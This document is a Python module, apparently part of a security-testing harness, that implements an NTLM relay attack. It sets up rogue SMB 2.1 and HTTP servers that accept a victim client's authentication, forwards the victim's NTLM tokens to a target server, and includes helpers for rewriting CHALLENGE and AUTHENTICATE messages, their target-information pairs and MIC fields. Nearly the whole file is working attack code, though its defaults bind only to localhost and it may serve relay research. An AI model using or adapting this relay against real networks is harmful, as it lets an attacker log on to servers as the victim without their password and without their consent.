# SPDX-License-Identifier: Apache-2.0
"""Rogue servers that a victim's client is led to, and what a relay does with the tokens it gets there."""

import base64
import http.server
import socket
import struct
import threading

from impacket import ntlm
from impacket.spnego import SPNEGO_NegTokenResp, TypesMech

import raw_smb
from raw_smb import MORE_PROCESSING, NEGOTIATE, RESPONSE, SESSION_SETUP, RawSmb, field

SIGNATURE = b"NTLMSSP\0"
FLAG_SIGN, FLAG_ALWAYS_SIGN, FLAG_KEY_EXCH, FLAG_VERSION = 0x10, 0x8000, 0x40000000, 0x02000000
AV_FLAGS, AV_TARGET_NAME, AV_DNS_COMPUTER = 6, 9, 3
MIC_AT = 72


# --- NTLM messages ------------------------------------------------------------------------------------------


def ntlm_of(token):
    """The NTLM message in a token; in SPNEGO it is the last of it but a MIC."""
    return token[token.index(SIGNATURE):]


def with_ntlm(token, message, is_servers=False):
    """Another message in the same kind of token, of any length: a token of SPNEGO's second leg, or none."""
    if token.startswith(SIGNATURE):
        return message
    response = SPNEGO_NegTokenResp()
    if is_servers:
        response["NegState"] = b"\x01"
        response["SupportedMech"] = TypesMech["NTLMSSP - Microsoft NTLM Security Support Provider"]
    response["ResponseToken"] = message
    return response.getData()


def replace_ntlm(token, message):
    """The token with another message of the same length."""
    at = token.index(SIGNATURE)
    return token[:at] + message + token[at + len(message):]


class Authenticate:
    """An AUTHENTICATE message taken apart (MS-NLMP 2.2.1.3), to be changed and put together anew."""

    FIELDS = ("lm", "nt", "domain", "user", "workstation", "key")

    def __init__(self, message):
        self.flags = field(message, 60, "I")
        first = len(message)
        for i, name in enumerate(self.FIELDS):
            length, _, offset = struct.unpack_from("<HHI", message, 12 + 8 * i)
            setattr(self, name, message[offset:offset + length])
            first = min(first, offset if length else first)
        self.version = message[64:72] if first >= 72 else b""
        self.mic = message[72:88] if first >= 88 else b""

    def bytes(self):
        at = 64 + len(self.version) + len(self.mic)
        fields, payload = b"", b""
        for name in self.FIELDS:
            data = getattr(self, name)
            fields += struct.pack("<HHI", len(data), len(data), at + len(payload))
            payload += data
        return (SIGNATURE + struct.pack("<I", 3) + fields + struct.pack("<I", self.flags) + self.version + self.mic
                + payload)

    def pairs(self):
        return av_pairs(self.nt[44:])

    def set_pairs(self, pairs):
        self.nt = self.nt[:44] + av_bytes(pairs) + bytes(4)

    def session_key(self, password, challenge):
        """What only the client and the server know; challenge is the CHALLENGE message's 8 bytes."""
        user, domain = (x.decode("utf-16-le") for x in (self.user, self.domain))
        response_key = ntlm.NTOWFv2(user, password, domain)
        proof = ntlm.hmac_md5(response_key, challenge + self.nt[16:])
        if proof != self.nt[:16]:
            raise ValueError("not this password, or not this challenge")
        base = ntlm.hmac_md5(response_key, proof)
        return ntlm.generateEncryptedSessionKey(base, self.key) if self.key else base


def av_pairs(data):
    """[(id, value)] up to the end of the list."""
    found = []
    while len(data) >= 4:
        kind, length = struct.unpack_from("<HH", data)
        if kind == 0:
            break
        found.append((kind, data[4:4 + length]))
        data = data[4 + length:]
    return found


def av_bytes(pairs):
    return b"".join(struct.pack("<HH", kind, len(value)) + value for kind, value in pairs) + bytes(4)


def challenge_with_pairs(message, edit):
    """A CHALLENGE with other target information."""
    length, _, offset = struct.unpack_from("<HHI", message, 40)
    info = av_bytes(edit(av_pairs(message[offset:offset + length])))
    out = bytearray(message[:offset] + info)
    struct.pack_into("<HHI", out, 40, len(info), len(info), offset)
    return bytes(out)


def challenge_bytes(message):
    return message[24:32]


# --- what the victim's client talks to ------------------------------------------------------------------------


class Relay:
    """Carries a victim's tokens to a server, each victim's connection on one of its own, or on what connect gives.
    edit_first, edit_challenge and edit_last change tokens on their way. What it got is in sessions."""

    def __init__(self, port, edit_first=None, edit_challenge=None, edit_last=None, connect=None):
        same = lambda token: token  # noqa: E731
        self.port, self.server = port, "127.0.0.1"
        self.connect = connect or (lambda: RawSmb(port, timeout=8))
        self.edits = [edit_first or same, edit_challenge or same, edit_last or same]
        self.sessions = []

    def carrier(self):
        return Carrier(self)


class Carrier:
    def __init__(self, relay):
        self.relay = relay
        self.smb = None
        self.first = self.challenge = b""

    def carry(self, token):
        """The server's status and token for the victim's."""
        first = self.smb is None
        if first:
            self.smb = self.relay.connect()
        sent = self.relay.edits[0 if first else 2](token)
        self.first = sent if first else self.first
        answer = self.smb.session_setup(sent, first=first)
        status = raw_smb.status_of(answer)
        if status != MORE_PROCESSING:
            self.relay.sessions.append(Relayed(self.smb, answer, self.first, sent, self.challenge))
            return status, raw_smb.security_buffer(answer) if status == 0 else b""
        back = self.relay.edits[1](raw_smb.security_buffer(answer))
        if SIGNATURE in back:
            self.challenge = ntlm_of(raw_smb.security_buffer(answer))
        return status, back


class Relayed:
    """A log-on that was relayed to its end: the connection, the final answer, and the tokens as they were sent."""

    def __init__(self, smb, answer, first, token, challenge):
        self.smb, self.answer, self.first, self.token, self.challenge = smb, answer, first, token, challenge
        self.status = raw_smb.status_of(answer)

    def real_key(self, password):
        message = Authenticate(ntlm_of(self.token))
        return message.session_key(password, challenge_bytes(self.challenge))


class RogueSmb:
    """An SMB 2.1 server without signing that a victim believes in; a context manager."""

    def __init__(self, relay, address="127.0.0.1", port=0):
        self.relay = relay
        self.listener = socket.create_server((address, port))
        self.address, self.port = self.listener.getsockname()[:2]

    def negotiate_answer(self, frame):
        with RawSmb(self.relay.port, self.relay.server) as smb:
            token = raw_smb.security_buffer(smb.negotiated)
        body = struct.pack("<HHHH16sIIIIQQHHI", 65, 1, 0x210, 0, bytes(16), 0, 65536, 65536, 65536, 0, 0, 128,
                           len(token), 0)
        return self.header(frame, 0) + body + token

    @staticmethod
    def header(frame, status, session_id=0):
        return raw_smb.header(raw_smb.command_of(frame), field(frame, 24, "Q"), flags=RESPONSE, status=status,
                              session_id=session_id, credits=8)

    def serve(self, sock):
        wire, carrier = raw_smb.Wire(sock, 15), self.relay.carrier()
        while True:
            frame = wire.receive()
            if raw_smb.command_of(frame) == NEGOTIATE:
                wire.send(self.negotiate_answer(frame))
            elif raw_smb.command_of(frame) == SESSION_SETUP:
                status, token = carrier.carry(raw_smb.security_buffer(frame))
                if status != MORE_PROCESSING:  # the victim has served its purpose
                    wire.send(self.header(frame, raw_smb.ACCESS_DENIED) + struct.pack("<HBBIB", 9, 0, 0, 0, 0))
                    return
                body = struct.pack("<HHHH", 9, 0, 72, len(token)) + token
                wire.send(self.header(frame, status, 0x4711) + body)
            else:
                return

    def accept(self):
        while True:
            try:
                sock, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self.serve_quietly, args=(sock,), daemon=True).start()

    def serve_quietly(self, sock):
        try:
            self.serve(sock)
        except (raw_smb.Ended, OSError):
            pass
        finally:
            sock.close()

    def __enter__(self):
        threading.Thread(target=self.accept, daemon=True).start()
        return self

    def __exit__(self, *unused):
        self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()


class RogueWeb:
    """A web server that asks for NTLM, or Negotiate; a context manager."""

    def __init__(self, relay, scheme="NTLM"):
        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"
            carrier = None

            def do_GET(self):
                kind, _, token = self.headers.get("Authorization", "").partition(" ")
                if not token:
                    return self.answer(401, scheme)
                if self.carrier is None:
                    self.carrier = relay.carrier()
                status, back = self.carrier.carry(base64.b64decode(token))
                if status == MORE_PROCESSING:
                    return self.answer(401, f"{kind} {base64.b64encode(ntlm_of(back)).decode()}")
                return self.answer(200, None)

            def answer(self, code, challenge):
                self.send_response(code)
                if challenge:
                    self.send_header("WWW-Authenticate", challenge)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *unused):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]

    def __enter__(self):
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *unused):
        self.server.shutdown()
        self.server.server_close()
